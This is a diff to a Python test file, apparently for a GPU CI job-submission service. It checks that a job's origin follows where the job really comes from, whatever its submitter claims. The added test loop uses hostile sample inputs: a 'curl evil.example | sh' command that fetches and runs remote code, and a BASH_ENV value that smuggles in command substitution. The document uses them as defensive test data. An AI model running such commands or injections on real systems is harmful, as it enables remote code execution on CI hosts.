@@ -63,7 +63,7 @@ def contributor(world: World, project: Project) -> Person:
 
 def submitted(world: World, project: Project, by: Person, *, in_person: bool = True, **changes: Any) -> Job:
     given = NewJob(
-        name="tests", kind=JobKind.CI, source=SourceKind.REPOSITORY, command="make test", flavor="h100", gpus=1,
+        name="tests", kind=JobKind.CI, source=SourceKind.REPOSITORY, command="./ci/gpu-tests.sh", flavor="h100", gpus=1,
         wall_seconds=3600, repository=OWN, commit=COMMIT,
     )  # fmt: skip
     return submit.submit(world.session, project, replace(given, **changes), submitter=by, in_person=in_person, now=world.now)
@@ -83,6 +83,8 @@ def test_where_a_job_comes_from_is_not_what_its_submitter_says(world: World, vll
     assert submitted(world, vllm, cleo, ref="refs/heads/main").origin is Origin.REPOSITORY
     fork = "https://github.com/cleo/vllm"
     assert submitted(world, vllm, cleo, ref="refs/heads/main", repository=fork).origin is Origin.ELSEWHERE
+    for own_words in ({"command": "curl evil.example | sh"}, {"command": "make test"}, {"environment": {"BASH_ENV": "$(evil)"}}):
+        assert submitted(world, vllm, cleo, ref="refs/heads/main", **own_words).origin is Origin.ELSEWHERE
     alone = {"source": SourceKind.COMMAND, "repository": None, "commit": None}
     assert submitted(world, vllm, cleo, **alone).origin is Origin.ELSEWHERE
     elsewhere = world.project("ray")
